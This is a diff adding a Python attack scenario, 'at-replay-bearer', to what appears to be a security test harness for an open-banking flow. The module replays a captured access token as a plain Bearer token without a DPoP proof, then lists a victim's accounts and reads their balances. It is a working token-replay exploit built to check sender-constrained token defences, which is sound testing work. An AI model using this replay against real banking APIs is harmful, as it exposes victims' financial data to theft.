@@ -1,0 +1,48 @@
+"""at-replay-bearer: a token read off a resource request, replayed as a bearer token.
+
+The A5 attacker reads TPP→bank requests, not the TPP's key or certificate
+(attacks.md §1). From its own TLS client it sends the token with no DPoP header.
+"""
+
+from __future__ import annotations
+
+from attacker.context import AttackContext
+from attacker.model import Attack
+from attacker.premises import is_accounts_list, linked_victim, token_of
+
+
+def run(ctx: AttackContext) -> None:
+    linked_victim(ctx)
+    leaked = ctx.capture.last("resource", where=is_accounts_list)
+    _, token = token_of(leaked)
+    ctx.step("attacker", "reads FinLens's GET /accounts on the resource leg and copies its "
+             "access token")
+    headers = {"Authorization": f"Bearer {token}"}
+    listed = ctx.send("GET", ctx.url("bank", "/accounts"), headers=headers,
+                      what="GET /accounts with the stolen token as Bearer, no proof")
+    if listed.status_code != 200:
+        ctx.failed("the bank refused the replayed token", listed)
+    accounts = listed.json().get("accounts") or listed.json().get("data") or []
+    if not accounts:
+        ctx.failed("the replayed token listed no accounts", listed)
+    balances = {}
+    for account in accounts:
+        account_id = account.get("account_id") or account.get("id")
+        r = ctx.send("GET", ctx.url("bank", f"/accounts/{account_id}/balances"),
+                     headers=headers, what=f"GET /accounts/{account_id}/balances")
+        if r.status_code != 200:
+            ctx.failed("the bank refused the replayed token", r)
+        balances[account_id] = r.json()
+    ctx.succeeded(f"read the balances of {len(balances)} victim accounts", balances)
+
+
+ATTACK = Attack(
+    id="at-replay-bearer", attacker="A5", legs=("resource",), victim="prior",
+    premise="Holds the access token of one captured resource request; not the TPP's key or "
+            "certificate.",
+    goal="the victim's balances", run=run,
+    refs=("BCP §4.10.1", "RFC 8705 §3", "RFC 9449 §7.2"),
+    not_alone={"mtls_bound_tokens": "binds only tokens of a client that presents its "
+               "certificate; legacy FinLens uses no sender constraint (it blocks with "
+               "sender_constraint=mtls, as in at-replay-own-client-cert)"},
+)
